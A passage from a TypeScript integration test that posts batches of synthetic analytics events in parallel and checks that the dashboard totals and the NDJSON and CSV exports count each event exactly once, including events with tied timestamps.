    const batches = Array.from({ length: total / 50 }, (_, batch) =>
      Array.from({ length: 50 }, (_, index) => makeEvent('volume_app', { user_id: 9100000000 + (batch % 7), custom_data: { n: batch * 50 + index } })),
    );
    // parallel requests: the group-commit writer stores many with the same received_at, so the export's
    // cursor has to page through ties
    for (let start = 0; start < batches.length; start += 15) {
      const answers = await Promise.all(batches.slice(start, start + 15).map((body) => postEvents(service.url, body, { token, origin: 'https://volume-app.example.com' })));
      expect(answers.map((answer) => answer.status)).toEqual(answers.map(() => 201));
    }
    const dashboard = (await alice.get('/api/apps/volume_app/dashboard?days=7')).json;
    expect(dashboard.totals.events).toBe(total);
    const ndjson = await alice.get('/api/apps/volume_app/export.ndjson?days=7');
    const numbers = ndjson.text.trimEnd().split('\n').map((line) => JSON.parse(line).props.custom_data.n as number);
    expect(numbers).toHaveLength(total);
    expect(new Set(numbers).size).toBe(total);
    const csv = await alice.get('/api/apps/volume_app/export.csv?days=7');
    expect(csv.text.trimEnd().split('\n')).toHaveLength(total + 1);
  });
});
